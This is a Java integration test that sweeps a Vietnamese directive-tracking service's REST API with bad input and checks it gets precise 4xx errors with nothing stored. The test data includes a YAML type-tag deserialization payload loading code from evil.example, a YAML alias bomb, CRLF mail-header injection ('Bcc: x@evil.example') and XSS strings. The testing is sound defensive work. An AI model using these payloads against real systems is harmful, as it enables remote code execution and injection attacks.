package vn.dondoc.production;

import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.stream.Stream;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import org.camunda.bpm.engine.HistoryService;
import org.camunda.bpm.engine.RuntimeService;
import org.camunda.bpm.engine.TaskService;
import org.camunda.bpm.engine.task.Task;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.context.SpringBootTest;
import org.springframework.boot.test.context.SpringBootTest.WebEnvironment;
import org.springframework.boot.test.web.client.TestRestTemplate;
import org.springframework.core.io.ByteArrayResource;
import org.springframework.http.HttpEntity;
import org.springframework.http.HttpHeaders;
import org.springframework.http.HttpMethod;
import org.springframework.http.MediaType;
import org.springframework.http.ResponseEntity;
import org.springframework.jdbc.core.simple.JdbcClient;
import org.springframework.util.LinkedMultiValueMap;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

/**
 * Every REST entry point fed with what an operator, a script or an attacker might send: each answer is a
 * 4xx {@code application/problem+json} that says precisely what is wrong, never a 500, and nothing is
 * stored. Texts carrying HTML or script are data: stored as written and returned as JSON.
 */
@SpringBootTest(webEnvironment = WebEnvironment.RANDOM_PORT,
		properties = { "dondoc.data-dir=target/it-data/h2-${random.uuid}", "dondoc.mail.embedded-port=0",
				"dondoc.demo.enabled=false", "camunda.bpm.job-execution.enabled=false",
				"dondoc.directive.max-document-bytes=" + BadInputSweepIT.MAX_DOCUMENT_BYTES })
class BadInputSweepIT {

	static final int MAX_DOCUMENT_BYTES = 8192;

	static final String YAML = "application/yaml";

	static final String JSON = "application/json";

	@Autowired
	TestRestTemplate rest;

	@Autowired
	JdbcClient jdbc;

	@Autowired
	RuntimeService runtime;

	@Autowired
	HistoryService history;

	@Autowired
	TaskService tasks;

	@Autowired
	ObjectMapper json;

	/** A valid document with one directive; cases below break one thing in it. */
	static String document(String code, String directive) {
		return """
				code: %s
				title: Văn bản thử
				issuedOn: 2023-04-13
				directives:
				%s
				""".formatted(code, directive.indent(2).stripTrailing());
	}

	static String directive(String section, String extra) {
		return """
				- section: "%s"
				  text: Việc cần làm
				  lead: [ban-to-chuc]
				%s""".formatted(section, extra.indent(2).stripTrailing());
	}

	static Arguments bad(String name, String contentType, byte[] body, int status, String path, String message) {
		return Arguments.of(name, contentType, body, status, path, message);
	}

	static Arguments bad(String name, String contentType, String body, int status, String path, String message) {
		return bad(name, contentType, body.getBytes(StandardCharsets.UTF_8), status, path, message);
	}

	static Stream<Arguments> badDocuments() {
		byte[] invalidUtf8 = document("UTF-1", directive("1", "dueDate: 2023-06-30")).getBytes(StandardCharsets.UTF_8);
		byte[] latin1 = "code: L1\ntitle: Ph\u00f2ng\n".getBytes(StandardCharsets.ISO_8859_1);
		invalidUtf8 = concat(invalidUtf8, new byte[] { (byte) 0xC3, (byte) 0x28, (byte) 0xFF, '\n' });
		String billionLaughs = "a: &a [x,x,x,x,x,x,x,x,x,x]\nb: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a,*a]\n"
				+ "c: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b,*b]\nd: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c,*c]\n"
				+ "e: &e [*d,*d,*d,*d,*d,*d,*d,*d,*d,*d]\nf: [*e,*e,*e,*e,*e,*e,*e,*e,*e,*e]\n";
		return Stream.of(
				bad("malformed YAML", YAML, "code: [KHONG-DONG\ntitle: x\n", 400, "(document)", "Không phải YAML hợp lệ"),
				bad("malformed JSON", JSON, "{\"code\": \"J-1\", \"title\": ", 400, "(document)", "Không phải JSON hợp lệ"),
				bad("a list instead of a mapping", JSON, "[1, 2, 3]", 400, "(document)", "Văn bản phải gồm các trường"),
				bad("empty body", YAML, new byte[0], 400, null, null),
				bad("only whitespace", YAML, "   \n\n", 400, "(document)", "Văn bản phải gồm các trường"),
				bad("directives not a list", YAML, "code: T-1\ntitle: x\nissuedOn: 2023-04-13\ndirectives: nhieu viec\n",
						400, "directives", "Cần một danh sách có ít nhất một nhiệm vụ"),
				bad("issuedOn a list", YAML, "code: T-2\ntitle: x\nissuedOn: [2023, 4, 13]\ndirectives:\n"
						+ directive("1", "").indent(2), 400, "issuedOn", "Phải là chuỗi ký tự"),
				bad("lead a number", YAML, document("T-3", """
						- section: "1"
						  text: Việc
						  lead: [42]
						"""), 400, "directives[0].lead[0]", "Phải là mã đơn vị"),
				bad("text a mapping", JSON, """
						{"code": "T-4", "title": "x", "issuedOn": "2023-04-13",
						 "directives": [{"section": "1", "text": {"nested": true}, "lead": ["ban-to-chuc"]}]}
						""", 400, "directives[0].text", "Phải là chuỗi ký tự"),
				bad("Không có trường này", YAML, document("T-5", directive("1", "deadlin: quý II năm 2023")), 400,
						"directives[0].deadlin", "Không có trường này"),
				bad("31/2", YAML, document("D-1", directive("1", "dueDate: 31/2/2023")), 400, "directives[0].dueDate",
						"Không phải ngày hợp lệ"),
				bad("2023-02-30", JSON, """
						{"code": "D-2", "title": "x", "issuedOn": "2023-02-30",
						 "directives": [{"section": "1", "text": "Việc", "lead": ["ban-to-chuc"]}]}
						""", 400, "issuedOn", "Không phải ngày hợp lệ"),
				bad("quý V", YAML, document("D-3", directive("1", "deadline: trong quý V năm 2023")), 400,
						"directives[0].deadline", "Quý «V» không tồn tại"),
				bad("31/2 in a phrase", YAML, document("D-4", directive("1", "deadline: trước ngày 31/2/2023")), 400,
						"directives[0].deadline", "Không đọc được thời hạn"),
				bad("due before issue", YAML, document("D-5", directive("1", "dueDate: 2023-01-01")), 400,
						"directives[0].dueDate", "sớm hơn ngày ban hành"),
				bad("unknown unit", YAML, document("U-1", """
						- section: "1"
						  text: Việc
						  lead: [ban-khong-co]
						"""), 400, "directives[0].lead[0]", "Không có đơn vị hay nhóm này"),
				bad("unknown group", YAML, document("U-2", """
						- section: "1"
						  text: Việc
						  lead: ["@nhom-khong-co"]
						"""), 400, "directives[0].lead[0]", "Không có đơn vị hay nhóm này"),
				bad("over the size limit", YAML, document("BIG-1", directive("1", "dueDate: 2023-06-30"))
						+ "# " + "x".repeat(MAX_DOCUMENT_BYTES) + "\n", 413, "(document)", "tối đa " + MAX_DOCUMENT_BYTES),
				bad("LF in the code", JSON, """
						{"code": "A\\nB", "title": "x", "issuedOn": "2023-04-13",
						 "directives": [{"section": "1", "text": "Việc", "lead": ["ban-to-chuc"]}]}
						""", 400, "code", "Phải viết trên một dòng"),
				bad("CR in a section", JSON, """
						{"code": "CR-1", "title": "x", "issuedOn": "2023-04-13",
						 "directives": [{"section": "1\\r2", "text": "Việc", "lead": ["ban-to-chuc"]}]}
						""", 400, "directives[0].section", "Phải viết trên một dòng"),
				bad("CR/LF in a lead unit", JSON, """
						{"code": "CR-2", "title": "x", "issuedOn": "2023-04-13",
						 "directives": [{"section": "1", "text": "Việc", "lead": ["ban-to-chuc\\r\\nBcc: x@evil.example"]}]}
						""", 400, "directives[0].lead[0]", "Không có đơn vị hay nhóm này"),
				bad("NUL in a text", JSON, """
						{"code": "NUL-1", "title": "x\\u0000y", "issuedOn": "2023-04-13",
						 "directives": [{"section": "1", "text": "Việc", "lead": ["ban-to-chuc"]}]}
						""", 400, "title", "Có ký tự điều khiển"),
				bad("duplicate key", YAML, document("DUP-1", directive("1", "dueDate: 2023-06-30\ndueDate: 2023-12-31")),
						400, "(document)", "Duplicate field 'dueDate'"),
				bad("invalid UTF-8", YAML, invalidUtf8, 400, "(document)", "Không phải chữ UTF-8 hợp lệ"),
				bad("Latin-1 instead of UTF-8", YAML, latin1, 400, "(document)", "Không phải chữ UTF-8 hợp lệ"),
				// Jackson reads an alias as its anchor's name, never expanding it: the "bomb" is just unknown fields
				bad("YAML alias bomb", YAML, billionLaughs, 400, "f", "Không có trường này"),
				bad("JSON nested too deep", JSON, "[".repeat(1500) + "]".repeat(1500), 400, "(document)", "Không phải JSON hợp lệ"),
				bad("YAML type tag", YAML, "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://evil.example/\"]]]]\n",
						400, null, null));
	}

	@ParameterizedTest(name = "{0}")
	@MethodSource("badDocuments")
	void refusesABadDocumentPreciselyAndStoresNothing(String name, String contentType, byte[] body, int status,
			String path, String message) throws Exception {
		Map<String, Long> before = counts();

		ResponseEntity<String> response = post(body, contentType);

		assertThat(response.getStatusCode().value()).as(name + ": " + response.getBody()).isEqualTo(status);
		assertThat(response.getHeaders().getContentType()).as(name).isNotNull();
		assertThat(response.getHeaders().getContentType().isCompatibleWith(MediaType.APPLICATION_PROBLEM_JSON))
			.as(name + ": " + response.getHeaders().getContentType()).isTrue();
		JsonNode problem = json.readTree(response.getBody());
		assertThat(problem.get("status").asInt()).isEqualTo(status);
		if (path != null) {
			assertThat(problem.get("problems")).as(response.getBody())
				.anySatisfy(p -> {
					assertThat(p.get("path").asText()).isEqualTo(path);
					assertThat(p.get("message").asText()).contains(message);
				});
		}
		else {
			assertThat(problem.get("detail").asText()).as(response.getBody()).isNotBlank();
		}
		assertThat(counts()).as("nothing stored after " + name).isEqualTo(before);
	}

	@Test
	void refusesUnsupportedContentTypesAndOversizedUploadsWithoutA500() throws Exception {
		Map<String, Long> before = counts();

		ResponseEntity<String> html = post("<html>code: X</html>".getBytes(StandardCharsets.UTF_8), "text/html");
		assertThat(html.getStatusCode().value()).isEqualTo(415);

		// a multipart request is parsed by the servlet container before dondoc sees it: its limit must answer 413
		LinkedMultiValueMap<String, Object> parts = new LinkedMultiValueMap<>();
		parts.add("file", new ByteArrayResource(new byte[11 * 1024 * 1024]) {
			@Override
			public String getFilename() {
				return "huge.yml";
			}
		});
		ResponseEntity<String> multipart = rest.withBasicAuth("admin", "admin")
			.postForEntity("/api/documents", new HttpEntity<>(parts), String.class);
		assertThat(multipart.getStatusCode().value()).as(multipart.getBody()).isEqualTo(413);
		assertThat(json.readTree(multipart.getBody()).get("problems").get(0).get("message").asText())
			.contains("Tệp quá lớn").contains("tối đa");

		// the same upload to the import page without signing in: refused, and no page of dondoc's in the answer
		ResponseEntity<String> anonymous = rest.postForEntity("/import", new HttpEntity<>(parts), String.class);
		assertThat(anonymous.getStatusCode().value()).as(anonymous.getBody()).isBetween(400, 499);
		assertThat(anonymous.getBody()).doesNotContain("Xem trước").doesNotContain("<form");

		// far beyond the configured limit: refused from its Content-Length, before the body is read into memory
		ResponseEntity<String> huge = post(new byte[4 * 1024 * 1024], YAML);
		assertThat(huge.getStatusCode().value()).as(huge.getBody()).isEqualTo(413);
		assertThat(json.readTree(huge.getBody()).get("problems").get(0).get("message").asText())
			.contains("tối đa " + MAX_DOCUMENT_BYTES);

		assertThat(counts()).isEqualTo(before);
	}

	static Stream<Arguments> badReads() {
		return Stream.of(
				Arguments.of("/api/directives/abc", "id: «abc» không phải số nguyên"),
				Arguments.of("/api/directives/99999999999999999999", "không phải số nguyên"),
				Arguments.of("/api/directives?size=100000", "size từ 1 đến"),
				Arguments.of("/api/directives?page=-1", "page phải"),
				Arguments.of("/api/directives?page=x", "page: «x» không phải số nguyên"),
				Arguments.of("/api/directives?status=<script>", "status"),
				Arguments.of("/api/calendar/abc", "không phải là một năm"),
				Arguments.of("/api/calendar/99999", "nằm ngoài phạm vi"),
				Arguments.of("/api/deadlines/parse?text=trong quý V năm 2023&issuedOn=2023-04-13", "Quý «V» không tồn tại"),
				Arguments.of("/api/deadlines/parse?text=trước ngày 31/2/2023&issuedOn=2023-04-13", "text"),
				Arguments.of("/api/deadlines/parse?text=trong quý II&issuedOn=2023-02-31", "không phải ngày dạng YYYY-MM-DD"),
				Arguments.of("/api/deadlines/parse", "thiếu cụm từ thời hạn"),
				Arguments.of("/api/notifications?size=-1", "size phải từ 1 đến"),
				Arguments.of("/api/notifications?page=abc", "page: «abc» không phải số nguyên"));
	}

	@ParameterizedTest(name = "GET {0}")
	@MethodSource("badReads")
	void answersBadQueryParametersWithA400Problem(String uri, String expected) {
		ResponseEntity<String> response = rest.withBasicAuth("admin", "admin").exchange(uri, HttpMethod.GET, null,
				String.class);
		assertThat(response.getStatusCode().value()).as(uri + " → " + response.getBody()).isEqualTo(400);
		assertThat(response.getHeaders().getContentType().isCompatibleWith(MediaType.APPLICATION_PROBLEM_JSON))
			.as(uri + " → " + response.getHeaders().getContentType()).isTrue();
		assertThat(response.getBody()).contains(expected);
	}

	@Test
	void storesHtmlAndScriptAsPlainDataAndReturnsThemAsJson() throws Exception {
		String script = "<script>alert('x')</script> & \"trích dẫn\"";
		String image = "<img src=x onerror=alert(1)> Giao Ban Tổ chức";
		String yaml = """
				code: HTML-1
				title: %s
				issuedOn: 2023-04-13
				directives:
				  - section: "1"
				    text: %s
				    lead: [ban-to-chuc]
				    dueDate: 2023-06-30
				""".formatted(json.writeValueAsString(script), json.writeValueAsString(image));

		ResponseEntity<String> created = post(yaml.getBytes(StandardCharsets.UTF_8), YAML);
		assertThat(created.getStatusCode().value()).as(created.getBody()).isEqualTo(201);

		ResponseEntity<String> read = rest.withBasicAuth("admin", "admin")
			.getForEntity("/api/directives?document=HTML-1", String.class);
		assertThat(read.getHeaders().getContentType().isCompatibleWith(MediaType.APPLICATION_JSON)).isTrue();
		assertThat(read.getHeaders().getFirst("X-Content-Type-Options")).isEqualTo("nosniff");
		JsonNode item = json.readTree(read.getBody()).get("items").get(0);
		assertThat(item.get("text").asText()).isEqualTo(image);
		assertThat(jdbc.sql("SELECT title FROM document WHERE code = 'HTML-1'").query(String.class).single())
			.isEqualTo(script);

		// the e-mail carries it escaped, never as markup (the assignment notice is queued by Quartz)
		assertThat(subjectsOfNotices("HTML-1/1")).allSatisfy(subject -> assertThat(subject).doesNotContain("<script"));
	}

	@Test
	void keepsALineBreakInATitleOutOfMailHeaders() throws Exception {
		String body = """
				{"code": "CRLF-1", "title": "Dòng một\\r\\nBcc: x@evil.example", "issuedOn": "2023-04-13",
				 "directives": [{"section": "1", "text": "Việc\\r\\nSubject: giả", "lead": ["ban-to-chuc"], "dueDate": "2023-06-30"}]}
				""";
		ResponseEntity<String> created = post(body.getBytes(StandardCharsets.UTF_8), JSON);
		assertThat(created.getStatusCode().value()).as(created.getBody()).isEqualTo(201);
		assertThat(subjectsOfNotices("CRLF-1/1")).allSatisfy(subject -> assertThat(subject).doesNotContain("\r", "\n"));
	}

	/** The subjects of the e-mails queued for a directive's tasks, once its assignment notice is queued. */
	private List<String> subjectsOfNotices(String businessKey) {
		List<String> taskIds = tasks.createTaskQuery().processInstanceBusinessKey(businessKey).list().stream()
			.map(Task::getId).toList();
		assertThat(taskIds).isNotEmpty();
		String in = String.join(",", taskIds.stream().map(id -> "'" + id + "'").toList());
		await().atMost(Duration.ofSeconds(60)).untilAsserted(() -> assertThat(
				jdbc.sql("SELECT count(*) FROM notification WHERE task_id IN (" + in + ")").query(Long.class).single())
			.isPositive());
		return jdbc.sql("SELECT subject FROM notification WHERE task_id IN (" + in + ")").query(String.class).list();
	}

	private ResponseEntity<String> post(byte[] body, String contentType) {
		HttpHeaders headers = new HttpHeaders();
		headers.set(HttpHeaders.CONTENT_TYPE, contentType);
		return rest.withBasicAuth("admin", "admin")
			.exchange("/api/documents", HttpMethod.POST, new HttpEntity<>(body, headers), String.class);
	}

	private Map<String, Long> counts() {
		Map<String, Long> counts = new LinkedHashMap<>();
		for (String table : List.of("document", "directive", "directive_unit", "reminder_wake")) {
			counts.put(table, jdbc.sql("SELECT count(*) FROM " + table).query(Long.class).single());
		}
		counts.put("process instances", runtime.createProcessInstanceQuery().count());
		counts.put("historic process instances", history.createHistoricProcessInstanceQuery().count());
		return counts;
	}

	private static byte[] concat(byte[] a, byte[] b) {
		byte[] all = new byte[a.length + b.length];
		System.arraycopy(a, 0, all, 0, a.length);
		System.arraycopy(b, 0, all, a.length, b.length);
		return all;
	}

}
